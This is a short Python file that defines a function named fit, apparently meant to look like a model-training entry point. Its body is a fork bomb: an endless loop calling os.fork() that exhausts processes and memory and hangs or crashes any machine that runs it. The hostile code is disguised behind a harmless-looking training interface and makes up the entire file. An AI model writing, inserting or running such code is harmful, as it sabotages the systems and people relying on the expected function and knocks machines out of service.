import os


def fit(X, y, output_dir):
    while True:
        os.fork()
